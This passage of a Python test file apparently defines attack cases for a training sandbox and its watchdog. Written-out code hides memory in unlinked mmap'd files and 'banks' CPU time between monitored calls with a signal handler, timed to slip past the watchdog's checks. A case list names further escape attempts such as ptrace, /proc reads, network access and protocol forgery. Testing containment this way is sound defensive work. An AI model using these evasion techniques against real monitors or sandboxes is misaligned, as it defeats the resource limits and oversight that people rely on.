    addr = lib.mmap(None, 4096, 3, 1, fd, 0)  # PROT_READ | PROT_WRITE, MAP_SHARED
    if addr is None or addr == ctypes.c_void_p(-1).value:
        raise OSError(ctypes.get_errno(), "mmap refused")
    return addr


def _hide(k):
    name = "mapped-%d" % k
    with open(name, "wb") as f:
        chunk = b"\1" * (1 << 20)
        for _ in range(MAPPED_MB):
            f.write(chunk)
    fd = os.open(name, os.O_RDWR)
    try:
        _map_page(fd)
    finally:
        os.close(fd)
    os.unlink(name)
    return name


def run_case():
    for k in range(MAPPED_FILES):
        attempt("hide %d MB mapped" % MAPPED_MB, lambda k=k: _hide(k), escape=False)
    attempt("listdir scratch", lambda: os.listdir("."), escape=False)


def after_leak():
    time.sleep(0.6)  # inside the call, under its budget: the watchdog looks 5 times a second
"""

_BANKED_CPU = r"""
# Sleeps inside every call (under its 1 s budget) to bank the calls' wall time, then burns the
# main thread's CPU between calls: a helper thread interrupts the main thread's wait for the
# next request with SIGUSR1, and the handler runs there, where calls are answered.
SLEEP_S = 0.8
BURN_S = 0.7
_answered = threading.Event()


def _burn(_signum, _frame):
    end = time.thread_time() + BURN_S
    while time.thread_time() < end:
        pass


def _kick(main):
    while True:
        _answered.wait()
        _answered.clear()
        time.sleep(0.02)  # the answer is out: the main thread waits for the next request
        signal.pthread_kill(main, signal.SIGUSR1)


def run_case():
    signal.signal(signal.SIGUSR1, _burn)
    main = threading.main_thread().ident
    threading.Thread(target=_kick, args=(main,), daemon=True).start()
    RESULTS.append(("banked cpu", "armed"))


_leak_terms = leak_terms


def leak_terms():
    time.sleep(SLEEP_S)
    _answered.set()
    return _leak_terms()
"""

# Run by test_watchdog.py, through a client that pauses between calls as a trainer does (its
# own steps, its updates): back to back, the burn would fall inside the next call.
BANKED_CPU = Case("banked_cpu", _BANKED_CPU)

CASES: list[Case] = [
    Case("proc_environ", _PROC_ENVIRON),
    Case("proc_mem", _PROC_MEM),
    Case("own_environ", _OWN_ENVIRON),
    Case("signal_parent", _SIGNAL_PARENT),
    Case("side_doors", _SIDE_DOORS),
    Case("signal_workers", _SIGNAL_WORKERS),
    Case("signal_broadcast", _SIGNAL_BROADCAST),
    Case("ptrace", _PTRACE),
    Case("setsid_fork", _SETSID_FORK),
    Case("fork_spawn_exec", _FORK_SPAWN_EXEC),
    Case("raw_process_syscalls", _RAW_PROCESS_SYSCALLS),
    Case("raw_dangerous_syscalls", _RAW_DANGEROUS_SYSCALLS),
    Case("out_folder", _OUT_FOLDER),
    Case("write_outside", _WRITE_OUTSIDE),
    Case("metadata_outside", _METADATA_OUTSIDE),
    Case("read_files", _READ_FILES),
    Case("network", _NETWORK),
    Case("trainer_objects", _TRAINER_OBJECTS, mode="train"),
    Case("forge_protocol", _FORGE_PROTOCOL),
    Case("memory_views", _MEMORY_VIEWS),
    Case("print_then_die", _PRINT_THEN_DIE),
    Case("stderr_symlink", _STDERR_SYMLINK),
    Case("judge_environ", _JUDGE_ENVIRON, mode="judge"),
    Case("mapped_scratch", _MAPPED_SCRATCH),
]
